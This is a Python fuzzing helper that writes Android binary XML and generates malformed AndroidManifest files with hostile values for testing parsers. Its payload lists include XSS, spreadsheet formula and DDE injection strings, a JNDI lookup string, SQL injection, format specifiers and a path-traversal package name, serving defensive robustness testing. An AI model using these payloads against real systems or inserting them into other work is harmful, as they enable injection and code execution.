"""A minimal writer of Android binary XML (AXML), to synthesise hostile AndroidManifest.xml files.

Bit flips rarely turn a manifest into one that parses but carries absurd values; this writer
builds well-formed binary XML whose *values* are hostile: a 4000-digit hexadecimal versionCode,
labels with terminal escapes, newlines, bidi overrides, lone surrogates or formula prefixes,
packages with NUL bytes, thousands of permissions, deep nesting, every piece a split...

Format: frameworks/base/libs/androidfw/include/androidfw/ResourceTypes.h (ResXMLTree_*).
"""

from __future__ import annotations

import random
import struct
from dataclasses import dataclass, field

RES_XML = 0x0003
RES_STRING_POOL = 0x0001
RES_XML_RESOURCE_MAP = 0x0180
RES_XML_START_NAMESPACE = 0x0100
RES_XML_END_NAMESPACE = 0x0101
RES_XML_START_ELEMENT = 0x0102
RES_XML_END_ELEMENT = 0x0103

TYPE_REFERENCE = 0x01
TYPE_STRING = 0x03
TYPE_INT_DEC = 0x10
TYPE_INT_HEX = 0x11
TYPE_INT_BOOLEAN = 0x12

ANDROID_NS = "http://schemas.android.com/apk/res/android"
ATTRIBUTE_IDS = {
    "label": 0x01010001, "name": 0x01010003, "permission": 0x01010006, "hasCode": 0x0101000C,
    "minSdkVersion": 0x0101020C, "versionCode": 0x0101021B, "versionName": 0x0101021C,
    "targetSdkVersion": 0x01010270, "maxSdkVersion": 0x01010271, "priority": 0x0101001C,
}


@dataclass
class Element:
    """An element: tag, attributes as (android namespace?, name, type, value) and children."""

    tag: str
    attrs: list[tuple[bool, str, int, int | str]] = field(default_factory=list)
    children: list[Element] = field(default_factory=list)


class _Pool:
    def __init__(self) -> None:
        self.strings: list[str] = []
        self.index: dict[str, int] = {}

    def add(self, text: str) -> int:
        if text not in self.index:
            self.index[text] = len(self.strings)
            self.strings.append(text)
        return self.index[text]

    def chunk(self) -> bytes:
        data = bytearray()
        offsets = []
        for text in self.strings:
            offsets.append(len(data))
            units = text.encode("utf-16-le", "surrogatepass")
            length = len(units) // 2
            if length > 0x7FFF:
                data += struct.pack("<HH", 0x8000 | (length >> 16), length & 0xFFFF)
            else:
                data += struct.pack("<H", length)
            data += units + b"\0\0"
        while len(data) % 4:
            data += b"\0"
        header = 28
        start = header + 4 * len(offsets)
        body = struct.pack(f"<{len(offsets)}I", *offsets) + bytes(data)
        return struct.pack("<HHIIIIII", RES_STRING_POOL, header, header + len(body), len(offsets), 0, 0, start, 0) + body


def write_axml(root: Element) -> bytes:
    """Binary XML for `root`, with the android namespace declared and a resource map for the
    android attributes it uses (so that parsers resolve them by id, as the platform does)."""
    pool = _Pool()
    used = sorted({name for element in _walk(root) for is_android, name, _t, _v in element.attrs
                   if is_android and name in ATTRIBUTE_IDS})
    for name in used:
        pool.add(name)
    resource_map = struct.pack(f"<{len(used)}I", *(ATTRIBUTE_IDS[n] for n in used))
    prefix, uri = pool.add("android"), pool.add(ANDROID_NS)
    body = bytearray()
    body += struct.pack("<HHIIIII", RES_XML_START_NAMESPACE, 16, 24, 1, 0xFFFFFFFF, prefix, uri)
    _emit(root, pool, uri, body)
    body += struct.pack("<HHIIIII", RES_XML_END_NAMESPACE, 16, 24, 1, 0xFFFFFFFF, prefix, uri)
    strings = pool.chunk()
    chunks = strings + struct.pack("<HHI", RES_XML_RESOURCE_MAP, 8, 8 + len(resource_map)) + resource_map + body
    return struct.pack("<HHI", RES_XML, 8, 8 + len(chunks)) + chunks


def _walk(root: Element) -> list[Element]:
    out, stack = [], [root]
    while stack:
        element = stack.pop()
        out.append(element)
        stack.extend(element.children)
    return out


def _emit(root: Element, pool: _Pool, uri: int, body: bytearray) -> None:
    """Start/end element chunks, iteratively (deep nesting is one of the things we write)."""
    stack: list[tuple[Element, bool]] = [(root, False)]
    while stack:
        element, closing = stack.pop()
        name = pool.add(element.tag)
        if closing:
            body += struct.pack("<HHIIIII", RES_XML_END_ELEMENT, 16, 24, 1, 0xFFFFFFFF, 0xFFFFFFFF, name)
            continue
        attrs = bytearray()
        for is_android, attr_name, kind, value in element.attrs:
            attr_idx = pool.add(attr_name)
            raw = pool.add(value) if isinstance(value, str) else 0xFFFFFFFF
            data = raw if kind == TYPE_STRING or isinstance(value, str) else value & 0xFFFFFFFF
            attrs += struct.pack("<IIIHBBI", uri if is_android else 0xFFFFFFFF, attr_idx, raw, 8, 0, kind, data)
        count = len(element.attrs)
        body += struct.pack("<HHIIIIIHHHHHH", RES_XML_START_ELEMENT, 16, 36 + len(attrs), 1, 0xFFFFFFFF,
                            0xFFFFFFFF, name, 20, 20, count, 0, 0, 0) + attrs
        stack.append((element, True))
        stack.extend((child, False) for child in reversed(element.children))


# -- hostile manifests ----------------------------------------------------------------------------

HOSTILE_TEXT = (
    "\x1b[31mred\x1b[0m\x07", "line1\nline2\r\nline3", "\u202egnp.exe", "<script>alert(1)</script>",
    "=HYPERLINK(\"http://evil.invalid\",\"x\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "tab\there", "nul\x00byte",
    "\ud800lone surrogate", "\udfff", "\ufeffbom", "x" * 70000, "", " ", "\u0000", "مرحبا", "中文标签",
    "\U0001f4a9", "a\u0301\u0301\u0301", "%s%n%x", "{0}{1}", "${jndi:ldap://x}", "'; DROP TABLE apps;--",
)
HOSTILE_NUMBERS = (
    "0x" + "f" * 4000, "9" * 5000, "-1", "0", "0b101", "1_000", " 12 ", "\u0661\u0662", "1e5", "0x", "", "abc",
    "99999999999999999999", "-0x80000000", "0o777", "NaN",
)


def _text(rng: random.Random) -> str:
    return rng.choice(HOSTILE_TEXT) if rng.random() < 0.6 else "com.fuzz." + rng.choice(("app", "x", "a.b.c"))


def _number(rng: random.Random) -> tuple[int, int | str]:
    roll = rng.random()
    if roll < 0.5:
        return TYPE_STRING, rng.choice(HOSTILE_NUMBERS)
    if roll < 0.7:
        return TYPE_INT_HEX, rng.getrandbits(32)
    return TYPE_INT_DEC, rng.choice((0, 1, 29, 0x7FFFFFFF, 0xFFFFFFFF, 0x80000000))


def hostile_manifest(rng: random.Random) -> tuple[bytes, str]:
    """A well-formed binary manifest with hostile values; returns (bytes, what was chosen)."""
    package = rng.choice(("com.cea.fixture.fuzz", "", "a" * 5000, "com.x\x00y", "../../etc/passwd", "com.evil\n=1+1",
                          "\u202ecom.evil", "com.\ud800x"))
    manifest = Element("manifest", [(False, "package", TYPE_STRING, package)])
    choices = [f"package {package[:20]!r}"]
    if rng.random() < 0.8:
        kind, value = _number(rng)
        manifest.attrs.append((True, "versionCode", kind, value))
        choices.append(f"versionCode {str(value)[:20]!r}")
    if rng.random() < 0.6:
        manifest.attrs.append((True, "versionName", TYPE_STRING, _text(rng)))
    if rng.random() < 0.2:
        manifest.attrs.append((False, "split", TYPE_STRING, rng.choice(("config.x", "feature", "", "\n"))))
        choices.append("split")
    if rng.random() < 0.7:
        sdk = Element("uses-sdk")
        for attr in ("minSdkVersion", "targetSdkVersion"):
            kind, value = _number(rng)
            sdk.attrs.append((True, attr, kind, value))
        manifest.children.append(sdk)
    permissions = rng.choice((0, 1, 3, 5000))
    names = ("android.permission.READ_CONTACTS", "android.permission.READ_SMS", "android.permission.INTERNET")
    for i in range(permissions):
        perm = Element(rng.choice(("uses-permission", "uses-permission-sdk-23", "permission")),
                       [(True, "name", TYPE_STRING, names[i % 3] if rng.random() < 0.7 else _text(rng))])
        if rng.random() < 0.2:
            kind, value = _number(rng)
            perm.attrs.append((True, "maxSdkVersion", kind, value))
        manifest.children.append(perm)
    choices.append(f"{permissions} permissions")
    application = Element("application")
    label_kind = rng.choice(("text", "text", "reference", "ref_string", "none"))
    if label_kind == "text":
        application.attrs.append((True, "label", TYPE_STRING, _text(rng)))
    elif label_kind == "reference":
        application.attrs.append((True, "label", TYPE_REFERENCE, rng.choice((0x7F020000, 0x7F0B001F, 0x01040000, 0, 0xFFFFFFFF))))
    elif label_kind == "ref_string":
        application.attrs.append((True, "label", TYPE_STRING,
                                  rng.choice(("@7F020000", "@", "@android:", "@zz", "@" + "f" * 600, "@-1", "@7F0200001"))))
    choices.append(f"label {label_kind}")
    if rng.random() < 0.3:
        application.attrs.append((True, "hasCode", rng.choice((TYPE_INT_BOOLEAN, TYPE_STRING)),
                                  rng.choice((0, 0xFFFFFFFF)) if rng.random() < 0.5 else rng.choice(("false", "0", "x"))))
    for tag in ("receiver", "service", "activity")[:rng.choice((0, 1, 3))]:
        component = Element(tag, [(True, "name", TYPE_STRING, _text(rng))])
        if rng.random() < 0.5:
            component.attrs.append((True, "permission", TYPE_STRING, rng.choice(
                ("android.permission.BROADCAST_SMS", "android.permission.BIND_NOTIFICATION_LISTENER_SERVICE", _text(rng)))))
        action = Element("action", [(True, "name", TYPE_STRING, rng.choice(
            ("android.provider.Telephony.SMS_RECEIVED", "android.service.notification.NotificationListenerService",
             _text(rng))))])
        component.children.append(Element("intent-filter", [], [action]))
        application.children.append(component)
    if rng.random() < 0.1:
        depth = rng.choice((100, 3000))
        node = application
        for _ in range(depth):
            child = Element("x")
            node.children.append(child)
            node = child
        choices.append(f"nesting {depth}")
    if rng.random() < 0.95:
        manifest.children.append(application)
    return write_axml(manifest), ", ".join(choices)
